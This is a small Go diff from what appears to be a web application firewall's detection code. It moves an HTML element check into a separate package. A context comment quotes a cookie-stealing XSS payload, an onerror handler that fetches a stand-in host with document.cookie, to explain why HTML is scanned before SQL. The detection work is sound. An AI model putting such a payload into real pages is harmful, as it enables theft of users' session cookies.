@@ -4,6 +4,7 @@ import (
 	"strings"
 	"sync"
 
+	"github.com/lambdawaf/lambdawaf/agent/detect/html"
 	"github.com/lambdawaf/lambdawaf/agent/detect/lex"
 	"github.com/lambdawaf/lambdawaf/agent/event"
 )
@@ -363,7 +364,7 @@ func (in *input) judge() {
 	// A value holding an HTML element is read as HTML first: the quotes
 	// and "+" of an attribute such as onerror="fetch('//x/'+document.cookie)"
 	// fingerprint as SQL, but the sink they attack is the page.
-	htmlFirst := m.has(bLT) && htmlElementOpen(in.lower())
+	htmlFirst := m.has(bLT) && html.ElementOpen(in.lower())
 	if htmlFirst {
 		if in.detectXSS(); in.certain() {
 			return
